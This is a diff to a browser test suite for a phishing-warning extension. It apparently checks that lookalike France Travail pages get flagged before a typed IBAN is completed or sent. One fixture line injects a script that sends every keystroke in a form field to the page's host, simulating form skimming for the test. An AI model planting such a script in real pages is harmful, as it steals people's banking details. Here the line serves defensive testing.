@@ -3,7 +3,9 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import type { BrowserKind } from '../browser/find.ts'
 import { launch, type Vigie } from '../browser/launch.ts'
 import { type Server, serve } from '../browser/server.ts'
+import { keepWorkerBusy } from './busy-worker.ts'
 import { html } from './pages/site.ts'
+import { stopWorker } from './stop-worker.ts'
 import { see } from './warning/eye.ts'
 import { sleep } from './warning/kit.ts'
 
@@ -13,6 +15,8 @@ const GUILTY = `<header><h1>France Travail</h1></header><main><h2>Votre espace F
   <label>IBAN <input name="iban"></label><button>Valider</button></form></main>`
 /** A lookalike address under a neutral page that asks little: a doubt. */
 const NEUTRAL = `<h1>Bienvenue</h1><form><label>Votre message <textarea id="text"></textarea></label></form>`
+/** Sends each letter away as it comes. */
+const SENDS = `<script>addEventListener('input', ({ target }) => fetch('/got?' + encodeURIComponent(target.value)))</script>`
 // Made up; valid check digits, nobody's.
 const IBAN = 'FR7612345678901234567890104'
 
@@ -29,7 +33,7 @@ const pages: Record<string, string> = {
       .observe(document.documentElement, { childList: true })</script>`,
     'France Travail',
   ),
-  neutral: html(NEUTRAL, 'Bienvenue'),
+  neutral: html(NEUTRAL + SENDS, 'Bienvenue'),
 }
 
 describe.each<BrowserKind>(['chromium', 'firefox'])('with all of Vigie in %s', (kind) => {
@@ -109,20 +113,50 @@ describe.each<BrowserKind>(['chromium', 'firefox'])('with all of Vigie in %s', (
     }
   })
 
-  test('a doubtful page that is about to get an IBAN becomes a danger', async () => {
-    const page = await open('https://france-travail-espace.example/neutral')
+  /** A page that earns a doubt, with all of an IBAN typed but its last character. */
+  async function nearlyGiven(hostname: string): Promise<Page> {
+    const page = await open(`https://${hostname}/neutral`)
     await vigie.badgeBecomes(page, '?')
     // The address alone earns the badge; only once the page was read is the moment watched for.
     await warned(page, true)
-    const text = () =>
-      page.evaluate(() => (document.getElementById('text') as HTMLTextAreaElement).value)
     await page.evaluate(() => document.getElementById('text')?.focus())
     // A page that was seen to have a field meanwhile is held once more for its verdict.
-    while ((await text()) === '') await page.keyboard.type(' ')
-    await page.keyboard.type(IBAN)
+    while ((await written(page)) === '') await page.keyboard.type(' ')
+    await page.keyboard.type(IBAN.slice(0, -1))
+    return page
+  }
+  const written = (page: Page) =>
+    page.evaluate(() => (document.getElementById('text') as HTMLTextAreaElement).value)
+  const sentBy = (hostname: string) =>
+    server.requests.filter((url) => url.includes(hostname) && url.endsWith(IBAN))
+
+  test('a doubtful page that is about to get an IBAN becomes a danger', async () => {
+    const page = await nearlyGiven('france-travail-espace.example')
+    await page.keyboard.type(IBAN.slice(-1))
     await vigie.badgeBecomes(page, '!')
     await warned(page)
-    expect((await text()).trim()).toBe(IBAN.slice(0, -1))
+    expect((await written(page)).trim()).toBe(IBAN.slice(0, -1))
+    expect(sentBy('france-travail-espace.example')).toEqual([])
+    await page.close()
+  })
+
+  test('so it does when the worker dies over the news of it, and the person tries again', async () => {
+    const page = await nearlyGiven('france-travail-dossier.example')
+    // The news waits for the worker, which dies before it hears of it.
+    const busy = keepWorkerBusy(vigie, 3_000).catch(() => {})
+    await sleep(300)
+    await page.keyboard.type(IBAN.slice(-1))
+    await sleep(300)
+    await stopWorker(vigie)
+    await busy
+    // Longer than the page is held for a verdict.
+    await sleep(4_000)
+    expect((await vigie.badge(page)).text).toBe('?')
+    await page.keyboard.type(IBAN.slice(-1))
+    await vigie.badgeBecomes(page, '!')
+    await warned(page)
+    expect((await written(page)).trim()).toBe(IBAN.slice(0, -1))
+    expect(sentBy('france-travail-dossier.example')).toEqual([])
     await page.close()
   })
 })
